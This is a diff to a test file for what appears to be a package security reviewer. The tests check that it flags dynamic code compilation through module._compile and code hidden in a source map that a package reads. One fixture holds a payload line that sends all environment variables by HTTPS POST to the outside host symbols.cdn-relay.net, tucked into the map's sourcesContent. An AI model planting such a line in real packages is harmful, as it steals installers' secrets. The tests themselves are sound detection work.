@@ -5,7 +5,10 @@
  */
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
+import { withLimits } from "../../src/common/limits.js";
+import { factsCache, loadedDataFiles } from "../../src/review/facts/cache.js";
 import { analyzeJs } from "../../src/review/facts/collect.js";
+import { makeSnapshot, readPackageFile } from "../../src/review/files.js";
 
 type Expect = {
   row: string;
@@ -214,6 +217,16 @@ const flagged: [string, string, Expect][] = [
     `import { execFile } from "node:child_process"; import { promisify } from "node:util"; const run = promisify(execFile); run("git", ["blame", "x"]);`,
     { row: "child_process.execFile", family: "exec", target: "git blame x" },
   ],
+  [
+    "Module#_compile through CommonJS's own module.constructor",
+    `const m = new module.constructor("x.js", module); m._compile(src, "x.js");`,
+    { row: "module#new default._compile", family: "code" },
+  ],
+  [
+    "_compile on a name a minifier reused",
+    `const m = new module.constructor("x.js", module); m._compile(src, "x.js"); function f() { const m = Math.floor(2.5); return m; }`,
+    { row: "chain:_compile", family: "code" },
+  ],
   // environment that steers other code
   [
     "NODE_OPTIONS by assignment, built from a constant",
@@ -304,4 +317,50 @@ describe("recipients written another way", () => {
         JSON.stringify(keyed),
       );
     });
+});
+
+describe("code kept in a source map the package reads", () => {
+  const limits = withLimits({});
+  const snapshot = (files: Record<string, string>) =>
+    makeSnapshot(
+      "p@1",
+      new Map(
+        Object.entries({ "package.json": '{"name":"p","version":"1.0.0"}', ...files }).map(([p, t]) => [
+          p,
+          readPackageFile(p, Buffer.from(t), 0o644, limits),
+        ]),
+      ),
+      [],
+    );
+  const payload =
+    'const https = require("https"); https.request({ host: "symbols.cdn-relay.net", method: "POST" }).end(JSON.stringify(process.env));';
+  const map = JSON.stringify({
+    version: 3,
+    sources: ["../src/a.ts", "prelude.js"],
+    sourcesContent: ["export const a = 1;", payload],
+  });
+
+  it("is reviewed as code when the code reads the map", () => {
+    const b = snapshot({
+      "dist/a.cjs":
+        'const map = JSON.parse(require("fs").readFileSync(require("path").join(__dirname, "a.cjs.map"), "utf8"));\n//# sourceMappingURL=a.cjs.map\n',
+      "dist/a.cjs.map": map,
+    });
+    const changed = [...b.files.values()].map((file) => ({ file }));
+    const facts = factsCache(loadedDataFiles(b, changed as never), [b]);
+    assert.ok(
+      facts(b.files.get("dist/a.cjs.map")!)?.capabilities.some(
+        (c) => c.family === "network" && c.target === "symbols.cdn-relay.net",
+      ),
+    );
+  });
+
+  it("is data when only the sourceMappingURL comment names it", () => {
+    const b = snapshot({
+      "dist/a.cjs": "exports.a = 1;\n//# sourceMappingURL=a.cjs.map\n",
+      "dist/a.cjs.map": map,
+    });
+    const changed = [...b.files.values()].map((file) => ({ file }));
+    assert.deepEqual([...loadedDataFiles(b, changed as never)], []);
+  });
 });
